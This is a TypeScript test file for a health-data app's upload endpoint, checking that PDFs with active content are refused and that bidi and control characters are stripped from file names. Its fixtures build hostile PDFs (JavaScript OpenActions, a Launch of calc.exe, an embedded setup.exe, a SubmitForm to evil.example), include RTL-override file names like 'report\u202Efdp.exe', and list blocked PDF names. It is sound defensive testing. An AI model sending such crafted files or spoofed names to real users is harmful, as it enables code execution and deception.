import { MESSAGES } from "@mimamori/shared";
import { count, eq } from "drizzle-orm";
import { PDFName, PDFString } from "pdf-lib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { dataImages, users } from "../../db/schema";
import { startTestApp, type TestApp } from "../../test/app";
import { type Role, roleTokens } from "../../test/roles";
import { ACTIVE_PDF_NAMES } from "./pdf-check";
import { actionRef, compressedPdf, minimalPdf, smallPng, textPdf } from "./test-files";

/*
 * Issue 29 §5, the security test's findings on uploads: PDFs with active content are refused (never stored nor
 * handed to staff), and file names lose the control and format characters that change how they show.
 */

let t: TestApp;
let tok: Record<Role, string | undefined>;
let clientId: string;
let item: number;

beforeAll(async () => {
  t = await startTestApp({ seed: true });
  tok = await roleTokens(t);
  const [u] = await t.db.select({ id: users.id }).from(users).where(eq(users.email, "client@example.com"));
  clientId = u?.id as string;
  const list = await t.call("GET", "/user/data", undefined, { token: tok.client });
  item = (list.body.data as { id: number; key: string }[]).find((i) => i.key === "covid19_vaccine")?.id ?? 0;
  const share = await t.call("POST", `/user/data/${item}/entities/sakura`, undefined, { token: tok.client });
  expect(share.status).toBe(201);
});
afterAll(() => t.close());

const memberPath = () => `/user/data/${item}/images`;
const staffPath = () => `/staff/sakura/data/${item}/user/${clientId}/images`;

async function upload(path: string, token: string | undefined, bytes: Buffer, name: string, lang = "en") {
  const form = new FormData();
  form.append("image", new Blob([new Uint8Array(bytes)], { type: "application/pdf" }), name);
  const res = await fetch(`${t.url}/api${path}`, {
    method: "POST",
    headers: { authorization: `Bearer ${token}`, "accept-language": lang },
    body: form,
  });
  return { status: res.status, body: await res.json() };
}

const stored = async () =>
  (await t.db.select({ n: count() }).from(dataImages).where(eq(dataImages.itemId, item)))[0]?.n ?? 0;

const ACTIVE = MESSAGES["pdf-active-content"];

describe("PDFs with active content are refused (415 pdf-active-content), nothing stored", () => {
  const cases: [string, () => Promise<Buffer> | Buffer][] = [
    [
      "an /OpenAction that runs JavaScript",
      () => textPdf("/OpenAction 4 0 R", ["<</S /JavaScript /JS (app.alert\\(1\\))>>"]),
    ],
    [
      "JavaScript in a compressed object stream (no byte of it readable in the file)",
      () =>
        compressedPdf((doc) => {
          const js = actionRef(doc, { S: "JavaScript", JS: PDFString.of("app.launchURL('x')") });
          doc.catalog.set(PDFName.of("OpenAction"), js);
        }),
    ],
    [
      "a /Launch action on a page's open",
      () =>
        compressedPdf((doc) => {
          const launch = actionRef(doc, { S: "Launch", F: PDFString.of("calc.exe") });
          doc.getPage(0).node.set(PDFName.of("AA"), doc.context.obj({ O: launch }));
        }),
    ],
    [
      "an embedded file",
      () => compressedPdf((doc) => doc.attach(Buffer.from("MZ…"), "setup.exe", { mimeType: "text/plain" })),
    ],
    [
      "the document's JavaScript name tree",
      () =>
        textPdf("/Names <</JavaScript 4 0 R>>", [
          "<</Names [(a) 5 0 R]>>",
          "<</S /JavaScript /JS (this.print\\(\\))>>",
        ]),
    ],
    [
      "a name written with #-escapes in small letters (/#4aava#53cript)",
      () => textPdf("/OpenAction 4 0 R", ["<</S /#4aava#53cript /#4aS (app.alert\\(1\\))>>"]),
    ],
    [
      "an XFA form",
      () => textPdf("/AcroForm <</Fields [] /XFA 4 0 R>>", ["<</Length 0>> stream\n\nendstream"]),
    ],
    [
      "a form that submits its data",
      () => textPdf("/OpenAction 4 0 R", ["<</S /SubmitForm /F (https://evil.example/)>>"]),
    ],
  ];

  it.each(cases)("refuses %s from the member, in the caller's language", async (_name, make) => {
    const bytes = await make();
    for (const [lang, text] of [
      ["en", ACTIVE.en],
      ["ja", ACTIVE.jp],
    ] as const) {
      const res = await upload(memberPath(), tok.client, bytes, "result.pdf", lang);
      expect(res).toEqual({ status: 415, body: { code: "pdf-active-content", detail: text } });
    }
    expect(await stored()).toBe(0);
  });

  it("finds JavaScript that a search of the file's bytes cannot see (compressed object streams)", async () => {
    const bytes = await compressedPdf((doc) => {
      const js = actionRef(doc, { S: "JavaScript", JS: PDFString.of("app.alert(1)") });
      doc.catalog.set(PDFName.of("OpenAction"), js);
    });
    expect(bytes.includes("JavaScript")).toBe(false);
    expect(bytes.includes("/JS")).toBe(false);
    const res = await upload(memberPath(), tok.client, bytes, "result.pdf");
    expect([res.status, res.body.code]).toEqual([415, "pdf-active-content"]);
  });

  it("refuses one a staff member adds to a shared item too", async () => {
    const bytes = textPdf("/OpenAction 4 0 R", ["<</S /JavaScript /JS (app.alert\\(1\\))>>"]);
    const res = await upload(staffPath(), tok.staff, bytes, "cert.pdf");
    expect([res.status, res.body.code]).toEqual([415, "pdf-active-content"]);
    expect(await stored()).toBe(0);
  });

  it("says what is refused and what to do, in both languages", () => {
    expect(ACTIVE.en).toBe(
      "This PDF contains active content (JavaScript, a program to start, embedded files or a form that sends data) and cannot be uploaded. Print it to a new PDF or scan it, then upload that file.",
    );
    expect(ACTIVE.jp).toBe(
      "このPDFには実行される内容（JavaScript、プログラムの起動、埋め込みファイル、データを送信するフォーム）が含まれているため、アップロードできません。新しいPDFに印刷するかスキャンしてから、そのファイルをアップロードしてください。",
    );
    expect([...ACTIVE_PDF_NAMES].sort()).toEqual(
      [
        "EmbeddedFile",
        "EmbeddedFiles",
        "FileAttachment",
        "GoToE",
        "GoToR",
        "ImportData",
        "JS",
        "JavaScript",
        "Launch",
        "RichMedia",
        "SubmitForm",
        "XFA",
      ].sort(),
    );
  });

  it("refuses an encrypted PDF (415 pdf-encrypted: its objects cannot be checked) and a damaged one (400)", async () => {
    const encrypted = textPdf(
      "",
      ["<</Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4>>"],
      "/Encrypt 4 0 R /ID [<01> <01>]",
    );
    const enc = await upload(memberPath(), tok.client, encrypted, "locked.pdf", "ja");
    expect(enc).toEqual({
      status: 415,
      body: { code: "pdf-encrypted", detail: MESSAGES["pdf-encrypted"].jp },
    });
    const cut = Buffer.from("%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R");
    const bad = await upload(memberPath(), tok.client, cut, "cut.pdf");
    expect([bad.status, bad.body.code]).toEqual([400, "image-unreadable"]);
    expect(await stored()).toBe(0);
  });
});

describe("clean PDFs are stored as uploaded", () => {
  it("accepts a compressed PDF, one with a web link, and the minimal one, byte for byte", async () => {
    const files = [
      await compressedPdf(),
      textPdf("/OpenAction 4 0 R", ["<</S /URI /URI (https://www.mhlw.go.jp/)>>"]),
      minimalPdf(),
    ];
    for (const bytes of files) {
      const up = await upload(memberPath(), tok.client, bytes, "result.pdf");
      expect(up.status).toBe(201);
      expect(up.body).toMatchObject({ content_type: "application/pdf", file_name: "result.pdf" });
      const got = await t.call("GET", `${memberPath()}/${up.body.id}`, undefined, { token: tok.client });
      expect(Buffer.from(got.body.base64_image, "base64").equals(bytes)).toBe(true);
    }
    await t.db.delete(dataImages).where(eq(dataImages.itemId, item));
  });
});

describe("file names lose control and format characters (Unicode Cc, Cf)", () => {
  it("stores names without the right-to-left override (U+202E) and the other bidirectional controls", async () => {
    const bidi = ["\u202A", "\u202B", "\u202C", "\u202D", "\u202E", "\u2066", "\u2067", "\u2068", "\u2069"];
    const names: [string, string][] = [
      ["a\u202Egpj.jpg", "agpj.png"],
      ["report\u202Efdp.exe", "reportfdp.png"],
      [`x${bidi.join("")}y.png`, "xy.png"],
      ["zero\u200Bwidth\uFEFF\u00AD.png", "zerowidth.png"],
      ["c1\u0085\u009Bline\u2028sep.png", "c1linesep.png"],
      ["健康診断\u200F結果.png", "健康診断結果.png"],
    ];
    for (const [given, want] of names) {
      const up = await upload(memberPath(), tok.client, await smallPng(), given);
      expect(up.status).toBe(201);
      expect(up.body.file_name).toBe(want);
      const [row] = await t.db.select().from(dataImages).where(eq(dataImages.id, up.body.id));
      expect(row?.fileName).toBe(want);
      expect(row?.fileName).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    }
    const staff = await upload(staffPath(), tok.staff, await smallPng(), "b\u2067gnp.png");
    expect(staff.body.file_name).toBe("bgnp.png");
    await t.db.delete(dataImages).where(eq(dataImages.itemId, item));
  });

  it("shows a name stored before without them, to the member and to staff", async () => {
    const up = await upload(memberPath(), tok.client, await smallPng(), "old.png");
    await t.db.update(dataImages).set({ fileName: "old\u202Egnp.png" }).where(eq(dataImages.id, up.body.id));
    const mine = await t.call("GET", `/user/data/${item}/detail`, undefined, { token: tok.client });
    expect(mine.body.images.map((i: { file_name: string }) => i.file_name)).toEqual(["oldgnp.png"]);
    const one = await t.call("GET", `${memberPath()}/${up.body.id}`, undefined, { token: tok.client });
    expect(one.body.file_name).toBe("oldgnp.png");
    const list = await t.call("GET", staffPath(), undefined, { token: tok.staff });
    expect(list.body.images.map((i: { file_name: string }) => i.file_name)).toEqual(["oldgnp.png"]);
    const got = await t.call("GET", `${staffPath()}/${up.body.id}`, undefined, { token: tok.staff });
    expect(got.body.file_name).toBe("oldgnp.png");
    await t.db.delete(dataImages).where(eq(dataImages.itemId, item));
  });
});
